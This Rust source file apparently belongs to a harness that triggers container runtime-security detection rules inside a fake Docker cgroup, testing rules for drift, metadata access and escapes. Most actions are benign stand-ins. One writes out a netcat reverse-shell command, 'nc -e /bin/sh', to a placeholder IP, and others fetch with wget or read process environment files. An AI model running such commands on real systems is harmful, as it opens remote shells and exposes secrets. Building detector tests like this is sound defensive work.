//! Actions in containers. The container is a cgroup with the name that an engine would give it.

use std::fs::{self, OpenOptions, Permissions};
use std::net::{TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, Result};
use saker_live::args;
use saker_live::calls::native;

use super::actions;
use super::scene::{METADATA, WORK, call, run, run_tool, tool};

/// Set in the environment of an action that is in its container.
pub(crate) const INSIDE: &str = "SAKER_ACTIONS_INSIDE";

/// The id of the container.
const ID: &str = "5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b5a4b";

/// Moves this process into a cgroup that looks like a container's. It stays there, empty, when the process has ended.
fn enter() -> Result<()> {
    let mounts = fs::read_to_string("/proc/self/mounts")?;
    let root = mounts.lines().find_map(|line| {
        let mut fields = line.split(' ').skip(1);
        let (path, kind) = (fields.next()?, fields.next()?);
        (kind == "cgroup2").then(|| PathBuf::from(path))
    });
    let root = root.context("no cgroup file system of version 2 is mounted")?;
    let own = fs::read_to_string("/proc/self/cgroup")?;
    let own = own.lines().find_map(|line| line.strip_prefix("0::/")).unwrap_or_default();
    let path = root.join(own).join(format!("docker-{ID}.scope"));
    fs::create_dir_all(&path).with_context(|| path.display().to_string())?;
    let processes = path.join("cgroup.procs");
    fs::write(&processes, "0").with_context(|| processes.display().to_string())
}

/// Does something in a container: enters it, and begins anew as its first process, as an engine would have it.
pub(crate) fn inside(what: impl FnOnce() -> Result<()>) -> Result<()> {
    if std::env::var_os(INSIDE).is_some() {
        return what();
    }
    enter()?;
    let program = Path::new(WORK).join("saker-actions");
    run(Command::new(program).args(std::env::args_os().skip(1)).env(INSIDE, "1"))
}

/// Runs a tool in a container.
fn tool_inside(name: &str, arguments: &[&str]) -> Result<()> {
    inside(|| run_tool(name, arguments))
}

actions! {
    "ChangeNamespacePrivilegesViaUnshare" "Change namespace privileges via unshare" => || inside(|| {
        // No capabilities at all, and a call that says so: rules look at what a thread is known to have.
        let header = [0x2008_0522_u32, 0];
        call("capset", libc::SYS_capset, &args![&header, &[0_u32; 6]])?;
        // Refused, and seen all the same. A new user namespace would succeed, and give all capabilities before rules look.
        native(libc::SYS_unshare, &args![libc::CLONE_NEWNS]);
        Ok(())
    });
    "ContactEC2InstanceMetadataServiceFromContainer" "Contact EC2 Instance Metadata Service From Container" => || inside(|| {
        let _listener = TcpListener::bind((METADATA, 80))?;
        TcpStream::connect((METADATA, 80))?;
        Ok(())
    });
    "ContainerDriftDetectedChmod" "Container Drift Detected (chmod)" => || inside(|| {
        let path = format!("{WORK}/dropped");
        fs::write(&path, "")?;
        Ok(fs::set_permissions(&path, Permissions::from_mode(0o755))?)
    });
    "ContainerDriftDetectedOpenCreate" "Container Drift Detected (open+create)" => || inside(|| {
        OpenOptions::new().write(true).create_new(true).mode(0o755).open(format!("{WORK}/dropped"))?;
        Ok(())
    });
    "DecodingPayloadInContainer" "Decoding Payload in Container" => || tool_inside("base64", &["--decode"]);
    "DetectReleaseAgentFileContainerEscapes" "Detect release_agent File Container Escapes" => || inside(|| {
        Ok(fs::write(format!("{WORK}/release_agent"), "")?)
    });
    "DropAndExecuteNewBinaryInContainer" "Drop and execute new binary in container" => || inside(|| {
        for directory in ["lower", "upper", "work", "merged"] {
            fs::create_dir(format!("{WORK}/{directory}"))?;
        }
        let options =
            std::ffi::CString::new(format!("lowerdir={WORK}/lower,upperdir={WORK}/upper,workdir={WORK}/work"))?;
        let merged = std::ffi::CString::new(format!("{WORK}/merged"))?;
        call("mount overlay", libc::SYS_mount, &args![c"overlay", &merged, c"overlay", 0, &options])?;
        let dropped = format!("{WORK}/merged/dropped");
        fs::copy(tool("program")?, &dropped)?;
        run(&mut Command::new(dropped))
    });
    "KubernetesClientToolLaunchedInContainer" "Kubernetes Client Tool Launched in Container" => || {
        tool_inside("kubectl", &["version"])
    };
    "LaunchIngressRemoteFileCopyToolsInContainer" "Launch Ingress Remote File Copy Tools in Container" => || {
        tool_inside("wget", &["203.0.113.7"])
    };
    "LaunchPackageManagementProcessInContainer" "Launch Package Management Process in Container" => || {
        tool_inside("apt-get", &["update"])
    };
    "LaunchRemoteFileCopyToolsInContainer" "Launch Remote File Copy Tools in Container" => || {
        tool_inside("rsync", &["a", "b"])
    };
    "LaunchSuspiciousNetworkToolInContainer" "Launch Suspicious Network Tool in Container" => || {
        tool_inside("nmap", &["--version"])
    };
    "ModifyContainerEntrypoint" "Modify Container Entrypoint" => || inside(|| {
        let file = fs::File::create(format!("{WORK}/entrypoint"))?;
        OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()))?;
        Ok(())
    });
    "NetcatRemoteCodeExecutionInContainer" "Netcat Remote Code Execution in Container" => || {
        tool_inside("nc", &["-e", "/bin/sh", "203.0.113.7", "4444"])
    };
    "PacketSocketCreatedInContainer" "Packet socket created in container" => || inside(|| {
        /// `ETH_P_ALL`, in network order.
        const ALL: u16 = 3_u16.to_be();
        call("socket", libc::SYS_socket, &args![libc::AF_PACKET, libc::SOCK_RAW, ALL])?;
        Ok(())
    });
    "ReadEnvironmentVariableFromProcFiles" "Read environment variable from /proc files" => || inside(|| {
        fs::read("/proc/self/environ")?;
        Ok(())
    });
}
